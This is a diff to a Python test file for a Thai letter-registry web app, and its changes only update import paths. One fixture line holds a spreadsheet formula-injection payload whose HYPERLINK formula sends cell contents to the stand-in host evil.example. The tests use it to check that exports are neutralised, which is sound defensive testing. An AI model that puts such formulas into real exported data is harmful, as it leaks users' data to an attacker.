@@ -58,7 +58,7 @@ def test_a_removed_user_can_no_longer_correct_letters(secured):
     client, csrf = sign_in(app, "somsri")
     patch = {"field": "subject", "value": "แก้หลังถูกลบ"}
     assert client.patch(f"/api/letters/{ids['province']}", json=patch, headers={"X-CSRF-Token": csrf}).status_code == 200
-    from ingest.web.cli import users
+    from ingest.cli.web import users
 
     r = CliRunner().invoke(users, ["remove", "somsri", "--db", str(app.config["DB_PATH"])])
     assert r.exit_code == 0, r.output
@@ -193,7 +193,7 @@ def test_sign_ins_are_logged_beside_the_users(secured):
     sign_in(app, "anan", "10.0.0.21")
     app.test_client().get(f"/api/letters/{ids['ministry']}", headers=basic("wipa", "bad"),
                           environ_base={"REMOTE_ADDR": "10.0.0.22"})
-    from ingest.cli import main
+    from ingest.cli.main import main
 
     db = str(app.config["DB_PATH"])
     r = CliRunner().invoke(main, ["users", "log", "--db", db])
@@ -240,8 +240,8 @@ HOSTILE = {"subject": '=HYPERLINK("http://evil.example/?x="&A1,"คลิกเ�
 
 @pytest.fixture
 def hostile(tmp_path):
-    from ingest.corrections import edit
-    from ingest.registry import Registry
+    from ingest.registry.corrections import edit
+    from ingest.registry.store import Registry
 
     db = tmp_path / "reg.db"
     web_support.build(db)
@@ -264,8 +264,8 @@ def formula_like(value) -> bool:
 def test_no_export_cell_starts_like_a_formula(hostile):
     from openpyxl import load_workbook
 
-    from ingest.register_book import export_records, register
-    from ingest.registry import Registry
+    from ingest.registry.book import export_records, register
+    from ingest.registry.store import Registry
 
     client = create_app(hostile, secret_key="t").test_client()
     with Registry(hostile) as reg:
@@ -287,7 +287,7 @@ def test_no_export_cell_starts_like_a_formula(hostile):
 def test_the_cli_exports_are_neutralised_too(hostile, tmp_path):
     from openpyxl import load_workbook
 
-    from ingest.cli import main
+    from ingest.cli.main import main
 
     out = tmp_path / "book.xlsx"
     r = CliRunner().invoke(main, ["register", "--db", str(hostile), "--format", "xlsx", "-o", str(out)])
@@ -372,7 +372,7 @@ def test_next_still_returns_to_the_page_asked_for(secured):
 
 @pytest.mark.parametrize("umask", [0o022, 0o000])
 def test_registry_users_and_scans_are_private(tmp_path, umask):
-    from ingest.registry import Registry
+    from ingest.registry.store import Registry
 
     old = os.umask(umask)
     try:
